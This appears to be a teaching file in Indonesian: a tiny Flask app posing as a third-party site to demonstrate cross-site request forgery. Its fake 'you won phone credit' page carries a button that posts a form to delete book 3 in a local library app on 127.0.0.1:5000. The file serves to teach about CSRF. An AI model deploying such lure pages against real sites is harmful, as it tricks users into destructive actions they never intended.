"""Situs milik orang lain, untuk melihat serangan CSRF: tombolnya mengirim formulir ke perpustakaan.

Jalankan di terminal kedua: flask --app penyerang run --port 5001
"""

from flask import Flask

HALAMAN = """<!doctype html>
<html lang="id">
<title>Menang pulsa!</title>
<h1>Selamat, kamu menang pulsa!</h1>
<form method="post" action="http://127.0.0.1:5000/buku/3/hapus">
  <button>Ambil hadiah</button>
</form>
</html>
"""

app = Flask(__name__)


@app.route("/")
def undian():
    return HALAMAN
